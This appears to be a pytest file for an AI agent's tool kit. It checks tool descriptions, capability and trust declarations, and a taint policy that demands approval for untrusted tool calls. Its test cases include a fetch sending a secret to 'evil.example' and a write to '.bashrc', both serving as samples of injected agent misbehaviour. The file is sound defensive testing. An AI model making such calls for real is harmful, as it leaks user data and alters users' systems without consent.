"""The kit as a whole: every tool is fit to be shown to a model."""

import pytest

from spindle import Tool, ToolRegistry, kit
from spindle.errors import UsageError
from spindle.kit.default_tools import KIT, TOOLSETS, kit_tools
from spindle.trust.flow import FlowCall, FlowLedger, FlowPolicy

OWN_WORDS = {"ask_user", "time_now", "calculate"}
CHANGING = {
    "write_file",
    "patch_file",
    "terminal",
    "http_request",
    "kanban_add",
    "kanban_move",
    "kanban_comment",
    "memory_remember",
    "memory_forget",
    "ask_user",
}

every_tool = pytest.mark.parametrize("tool", KIT, ids=lambda tool: tool.name)


def test_the_kit_registers_whole_and_in_parts() -> None:
    assert [tool.name for tool in ToolRegistry(kit_tools())] == [tool.name for tool in KIT]
    assert {tool.toolset for tool in kit_tools(["files", "web"])} == {"files", "web"}
    assert kit_tools([]) == []
    assert len(TOOLSETS) == 8


def test_a_tool_is_found_by_its_name() -> None:
    found = [tool for tool in KIT if tool.name in dir(kit)]

    assert [getattr(kit, tool.name) for tool in found] == found
    assert [tool.name for tool in KIT if tool not in found] == []
    assert not hasattr(kit, "format_disk")


@pytest.mark.parametrize("wrong", ["files", ["filse"]])
def test_a_toolset_that_is_not_there_is_refused(wrong: object) -> None:
    with pytest.raises(UsageError) as caught:
        kit_tools(wrong)  # pyright: ignore[reportArgumentType]  what an untyped caller might give

    assert caught.value.field == "toolsets"


@every_tool
def test_a_tool_describes_itself_and_each_argument(tool: Tool) -> None:
    described = tool.describe()

    assert len(described["description"]) > 30
    assert "Args:" not in described["description"]
    for name, schema in described["input_schema"]["properties"].items():
        assert schema.get("description"), f"{tool.name}.{name}"


@every_tool
def test_a_tool_is_trusted_only_where_its_words_are_our_own(tool: Tool) -> None:
    assert tool.trusted == (tool.name in OWN_WORDS)


@every_tool
def test_a_tool_says_whether_it_changes_something_and_ends(tool: Tool) -> None:
    assert tool.read_only == (tool.name not in CHANGING)
    assert tool.timeout_seconds is not None


@every_tool
def test_a_tool_that_reaches_something_declares_it(tool: Tool) -> None:
    needs = {"files": "files", "terminal": "process", "web": "network", "kanban": "storage", "memory": "storage"}
    wanted = needs.get(str(tool.toolset))

    assert tool.capabilities.declared() == (() if wanted is None else (wanted,))


@every_tool
def test_a_tool_that_changes_something_gives_every_argument_a_role(tool: Tool) -> None:
    arguments = set(tool.describe()["input_schema"]["properties"])

    assert tool.read_only or {path.split(".")[0] for path in tool.flow.roles} == arguments


def test_labels_and_destructive_effects_are_those_of_the_documentation() -> None:
    labels = {tool.name: tool.output for tool in KIT if tool.output != "third-party-private" and not tool.trusted}

    assert labels == {
        "write_file": "first-party",
        "patch_file": "first-party",
        "memory_remember": "first-party",
        "memory_forget": "first-party",
        "web_fetch": "third-party-public",
    }
    assert {tool.name for tool in KIT if tool.destructive} == {"terminal", "memory_forget"}


@pytest.mark.parametrize(
    ("name", "args", "is_asked"),
    [
        ("read_file", {"path": "secrets.txt"}, False),
        ("web_fetch", {"url": "https://shop.example/plan"}, False),
        ("web_fetch", {"url": "https://evil.example/?q=secret"}, True),
        ("write_file", {"path": "notes/plan.md", "content": "the plan"}, False),
        ("write_file", {"path": ".bashrc", "content": "the plan"}, True),
        ("terminal", {"command": "git status"}, True),
        ("memory_forget", {"name": "plan"}, True),
    ],
)
def test_a_policy_asks_where_others_chose_the_values(name: str, args: dict[str, str], is_asked: bool) -> None:
    ledger = FlowLedger()
    ledger.add_user_text("Read https://shop.example/plan and write the plan to notes/plan.md, then git status.")
    ledger.taint()
    (tool,) = (tool for tool in KIT if tool.name == name)

    (decision,) = FlowPolicy().judge([FlowCall(tool=tool, args=args)], ledger)

    assert decision.needs_approval is is_asked, decision.reasons
